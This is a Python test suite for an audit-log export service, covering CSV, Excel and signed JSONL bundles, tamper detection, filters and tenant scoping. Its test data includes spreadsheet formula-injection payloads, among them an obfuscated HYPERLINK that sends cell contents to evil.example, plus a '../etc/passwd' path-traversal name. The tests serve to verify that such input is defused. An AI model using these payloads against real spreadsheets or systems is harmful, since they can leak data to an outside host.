"""Export jobs through the API, written by a worker, read back with independent readers."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from sealog import times
from sealog.exports import jobs, writers
from sealog.ledger import audit, bundle
from tamper import Tamper

from conftest import event


@pytest.fixture
def worker(store, settings, app):
    return jobs.Worker(store=store, folder=settings.resolved_export_dir,
                       signer=app.state.signer, host=settings.log_host, lease_seconds=5)


def seed(tenant, n=12, **extra):
    base = times.now_us() - 3600 * 10**6
    events = [event(occurred_at=times.format_rfc3339(base + i * 10**6),
                    description=f"event {i}", **extra) for i in range(n)]
    tenant.client.post("/api/v1/events", json={"events": events})


def queue(tenant, **body):
    spec = {"name": "weekly", "format": "csv", "range": "7d", **body}
    return tenant.client.post("/api/v1/exports", json=spec)


def run(tenant, worker, **body) -> dict:
    created = queue(tenant, **body)
    assert created.status_code == 202, created.text
    assert created.json()["status"] == "queued"
    assert worker.run_one()
    return tenant.client.get(f"/api/v1/exports/{created.json()['id']}").json()


def download(tenant, job) -> bytes:
    r = tenant.client.get(job["download_url"])
    assert r.status_code == 200, r.text
    assert hashlib.sha256(r.content).hexdigest() == job["sha256"]
    assert len(r.content) == job["size_bytes"]
    return r


def test_csv_export_reads_back_with_the_csv_module(tenant, worker):
    seed(tenant)
    tenant.client.post("/api/v1/events", json={"events": [
        event(description='=HYPERLINK("http://evil.example","click")',
              actor={"email": "+mallory@acme.com", "id": "-1"})]})
    job = run(tenant, worker)
    assert job["status"] == "completed" and job["row_count"] == 13 and job["progress"] == 1
    response = download(tenant, job)
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="weekly.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == writers.COLUMNS
    assert [r[6] for r in rows[1:13]] == [f"event {i}" for i in range(12)]  # oldest first
    last = rows[13]
    assert last[6] == "'=HYPERLINK(\"http://evil.example\",\"click\")"
    assert last[3] == "'+mallory@acme.com" and last[4] == "'-1"
    assert last[14] == "acme" and int(last[15]) == 12 and len(last[16]) == 64


def test_csv_rows_with_commas_quotes_and_line_breaks_are_written_as_csv_writer_would(
        tenant, worker):
    """The fast path (rows joined directly) and the csv.writer path give one RFC 4180 file."""
    seed(tenant)
    tenant.client.post("/api/v1/events", json={"events": [
        event(description='Renamed "a, b" to c'), event(description="line\nbreak\r\nhere"),
        event(description="plain again", actor={"name": 'O"Brien, Pat'})]})
    content = download(tenant, run(tenant, worker)).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [r[6] for r in rows[-3:]] == ['Renamed "a, b" to c', "line\nbreak\r\nhere",
                                         "plain again"]
    assert rows[-1][3] == 'O"Brien, Pat'
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == content


# What a spreadsheet may split a cell at (comma, semicolon, tab, pipe, space), and what
# begins a formula, after any quotes and blanks a spreadsheet may pass over.
SEPARATORS = ",;\t| "
FORMULA_STARTS = "=+-@\t\r"
INJECTIONS = [
    "x;=1+1;y",
    '=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(115)&"://evil.example/?"&A2,'
    '"open")',
    "@SUM(1)", "a\t=1", "-2+3", "+1+1", " =1+1", 'x, "=1+1"', "x|=1+1", "x y -2+3",
    "x;;@A1", "line\n=1+1", "line\r\n@SUM(1)", "\r=1+1", '"=1+1"', "x;'=1",
    'x;" \t"=1', "https://evil.example/",
]


def live_pieces(content: str) -> list[str]:
    """Every field a spreadsheet could run as a formula, with any separator, reading the
    quotes or not."""
    live = []
    for delimiter in SEPARATORS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            reader = csv.reader(io.StringIO(content, newline=""), delimiter=delimiter,
                                quoting=quoting)
            live += [f for row in reader for f in row
                     if f.lstrip(' "\t\r\n')[:1] in set("=+-@")]
    return live


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from('ab ,;|"\'\r\n\t=+-@é\x00'), max_size=8),
                min_size=2, max_size=5))
def test_a_csv_line_quotes_every_field_and_leaves_no_piece_live(fields):
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerow(
        [writers.neutralise(f) for f in fields])
    line = writers.csv_line(fields)
    assert line + "\r\n" == buffer.getvalue()
    assert not live_pieces(line + "\r\n")
    for field in fields:  # only "'" is added, and only where a piece would be live
        assert writers.neutralise(field).replace("'", "") == field.replace("'", "")


def test_csv_cells_stay_text_whatever_separator_the_file_is_opened_with(tenant, worker):
    sent = tenant.client.post("/api/v1/events", json={"events": [event(
        description=text, event_type=text[:64],
        actor={"id": text, "name": text}, resource={"type": "agent", "id": text},
        request={"method": "GET", "path": "/agents;" + text}) for text in INJECTIONS]})
    assert sent.status_code == 201, sent.text
    content = download(tenant, run(tenant, worker)).content.decode("utf-8-sig")
    assert not live_pieces(content)
    rows = list(csv.reader(io.StringIO(content, newline="")))
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == content  # every field quoted
    shown = [r[6] for r in rows[1:]]
    assert shown[:5] == ["x;'=1+1;y", "'" + INJECTIONS[1], "'@SUM(1)", "a\t'=1", "'-2+3"]
    assert shown[5:] == [writers.neutralise(t) for t in INJECTIONS[5:]]
    assert [r[11] for r in rows[1:]] == ["/agents;" + writers.neutralise(t) for t in INJECTIONS]


def test_excel_cells_are_text_never_formulas_or_links(tenant, worker):
    tenant.client.post("/api/v1/events", json={"events": [event(
        description=text, actor={"id": text, "name": text},
        request={"method": "POST", "path": "/agents", "body": {"note": text}, "response": -1})
        for text in INJECTIONS]})
    workbook = download(tenant, run(tenant, worker, format="xlsx")).content
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [unescape(r[6].value) for r in rows] == INJECTIONS  # the exact text
    cells = [c for r in rows for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
    assert not sheet._hyperlinks
    for cell in cells:  # text that looks like a formula stays text when edited
        if cell.data_type == "s" and unescape(cell.value).startswith(tuple(FORMULA_STARTS)):
            assert cell.quotePrefix, cell.coordinate
    assert rows[0][18].value == "-1" and rows[0][18].quotePrefix


def test_excel_export_has_types_header_and_sheets(tenant, worker, monkeypatch):
    monkeypatch.setattr(writers, "EXCEL_ROWS_PER_SHEET", 5)
    seed(tenant, request={"method": "PUT", "path": "/agent/a1", "body": {"x": "y" * 40000},
                          "response": {"ok": True}})
    job = run(tenant, worker, format="xlsx")
    assert job["status"] == "completed", job["error"]
    response = download(tenant, job)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Events 1", "Events 2", "Events 3"]
    first = book["Events 1"]
    assert [c.value for c in first[1]][: len(writers.COLUMNS)] == writers.COLUMNS
    assert first["A1"].font.bold and first.freeze_panes == "A2"
    note = first.cell(row=1, column=len(writers.COLUMNS) + len(writers.EXCEL_EXTRA_COLUMNS) + 2)
    assert "3 sheets" in note.value
    assert isinstance(first["A2"].value, datetime)
    assert first["G2"].value == "event 0" and first["P2"].value == 0
    body = first["R2"].value
    assert len(body) == writers.EXCEL_CELL_LIMIT and "[cut:" in body
    assert first["S2"].value == '{"ok":true}'
    assert sum(ws.max_row - 1 for ws in book.worksheets) == 12


def test_jsonl_bundle_verifies_offline_and_catches_a_tampered_line(tenant, worker, app,
                                                                  tmp_path):
    seed(tenant)
    job = run(tenant, worker, format="jsonl", q="event")
    path = tmp_path / "bundle.jsonl"
    path.write_bytes(download(tenant, job).content)
    key = app.state.signer.verifier
    report = audit.verify_bundle_file(path, [key])
    assert report.ok and report.valid == 12, report.text()
    lines = path.read_bytes().splitlines(keepends=True)
    lines[4] = lines[4].replace(b"event 3", b"event 33")
    path.write_bytes(b"".join(lines))
    report = audit.verify_bundle_file(path, [key])
    assert [(f.kind, f.index) for f in report.failures] == [("modified", 3)]


def test_a_bundle_of_events_sent_out_of_time_order_verifies(tenant, worker, app, tmp_path,
                                                            capsys):
    """The bundle is in index order, whatever the events' times: an honest export verifies,
    and lines swapped afterwards are still caught."""
    from sealog.cli import main

    now = times.now_us()
    for minutes in (1, 60, 30):  # sent in this order, so time order is not index order
        sent = tenant.client.post("/api/v1/events", json={"events": [event(
            occurred_at=times.format_rfc3339(now - minutes * 60 * 10**6),
            description=f"{minutes} minutes ago")]})
        assert sent.status_code == 201, sent.text
    path = tmp_path / "day.jsonl"
    path.write_bytes(download(tenant, run(tenant, worker, format="jsonl", range="24h")).content)
    verify = ["verify", str(path), "--verifier-key", app.state.signer.verifier.text()]
    code, out = main(verify), capsys.readouterr().out
    assert code == 0 and "3/3 events valid" in out, out
    lines = path.read_bytes().split(b"\n")
    assert [bundle.parse_entry_line(line).index for line in lines[1:4]] == [0, 1, 2]
    lines[1], lines[2] = lines[2], lines[1]
    path.write_bytes(b"\n".join(lines))
    code, out = main(verify), capsys.readouterr().out
    assert code == 1 and "FAILED reordered: index 0" in out, out


def test_rows_are_those_that_matched_at_creation(tenant, worker):
    seed(tenant, n=4)
    created = queue(tenant).json()
    seed(tenant, n=3)
    worker.run_one()
    job = tenant.client.get(f"/api/v1/exports/{created['id']}").json()
    assert job["row_count"] == 4


def test_filters_apply(tenant, worker):
    seed(tenant, n=3)
    tenant.client.post("/api/v1/events", json={"events": [
        event(action="policy.enabled", description="enabled pii policy")]})
    job = run(tenant, worker, categories=["policy_changes"])
    assert job["row_count"] == 1 and job["categories"] == ["policy_changes"]
    assert run(tenant, worker, q="pii")["row_count"] == 1


def test_export_actions_are_audit_events(tenant, worker):
    seed(tenant, n=2)
    job = run(tenant, worker)
    download(tenant, job)
    cancelled = queue(tenant).json()
    tenant.client.delete(f"/api/v1/exports/{cancelled['id']}")
    actions = [e["action"] for e in tenant.client.get(
        "/api/v1/events", params={"q": "action:audit_log.*"}).json()["data"]]
    assert actions == ["audit_log.export_cancelled", "audit_log.exported",
                       "audit_log.export_downloaded", "audit_log.exported"]


def test_list_is_newest_first_and_scoped_to_the_org(tenant, tenant_factory, worker):
    first = queue(tenant, name="a").json()
    second = queue(tenant, name="b").json()
    assert [e["id"] for e in tenant.client.get("/api/v1/exports").json()["data"]] == [
        second["id"], first["id"]]
    other = tenant_factory("beta")
    assert other.client.get("/api/v1/exports").json()["data"] == []
    assert other.client.get(f"/api/v1/exports/{first['id']}").status_code == 404
    assert other.client.get(f"/api/v1/exports/{first['id']}/download").status_code == 404
    assert other.client.delete(f"/api/v1/exports/{first['id']}").status_code == 404


@pytest.mark.parametrize("body, field", [
    ({"format": "pdf"}, "format"),
    ({"name": ""}, None),
    ({"name": "  "}, None),
    ({"name": "../etc/passwd"}, None),
    ({"name": "a\\b"}, None),
    ({"range": "fortnight"}, None),
    ({"range": "custom"}, None),
    ({"categories": ["nope"]}, None),
    ({"q": '"open'}, None),
    ({"tz": "Mars/Base", "range": "month"}, None),
    ({"colour": "red"}, "colour"),
])
def test_bad_export_requests_are_refused(tenant, body, field):
    r = queue(tenant, **body)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    if field:
        assert r.json()["errors"][0]["field"] == field
    assert tenant.client.get("/api/v1/exports").json()["data"] == []


def test_download_before_completion_and_after_expiry(tenant, worker, store):
    seed(tenant, n=2)
    job = queue(tenant).json()
    early = tenant.client.get(f"/api/v1/exports/{job['id']}/download")
    assert early.status_code == 409 and early.json()["export_status"] == "queued"
    worker.run_one()
    done = tenant.client.get(f"/api/v1/exports/{job['id']}").json()
    path = store.get_export("acme", job["id"]).file_path
    with Tamper(store) as tamper:
        tamper.execute("UPDATE exports SET expires_at = 1 WHERE id = ?", job["id"])
    worker.expire()
    gone = tenant.client.get(done["download_url"])
    assert gone.status_code == 410
    assert tenant.client.get(f"/api/v1/exports/{job['id']}").json()["status"] == "expired"
    assert not __import__("pathlib").Path(path).exists()


def test_cancel(tenant, worker):
    job = queue(tenant).json()
    r = tenant.client.delete(f"/api/v1/exports/{job['id']}")
    assert r.status_code == 200 and r.json()["status"] == "cancelled"
    assert not worker.run_one()
    assert tenant.client.delete(f"/api/v1/exports/{job['id']}").status_code == 409


def test_a_failing_job_keeps_a_readable_error(tenant, worker, monkeypatch):
    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(writers, "write_csv", broken)
    job = run(tenant, worker)
    assert job["status"] == "failed" and job["error"] == "OSError: disk full"


def test_exports_need_the_scope(tenant_factory):
    reader = tenant_factory("acme", scopes=["events:read"])
    assert queue(reader).status_code == 403
